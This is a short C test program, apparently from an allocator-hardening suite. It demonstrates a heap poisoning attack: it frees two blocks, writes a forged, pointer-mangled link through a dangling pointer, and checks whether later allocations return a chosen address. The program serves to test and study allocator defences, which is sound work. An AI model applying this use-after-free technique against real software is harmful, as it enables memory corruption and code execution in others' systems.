// attack: a link to a chosen place, written into a block that was freed
// has: a dangling pointer to write through; addresses of its own blocks
// reaches: malloc gives a place in the program's data
// never: engine hardened
#include "attack.h"

int main(void) {
  char* const first = take(0x38);
  char* const second = take(0x38);
  drop(first);
  drop(second);
  put_word(second, 0, mixed(target, second));
  for (int i = 0; i < 8; ++i)
    if (take(0x38) == target) reached();
  nothing();
}
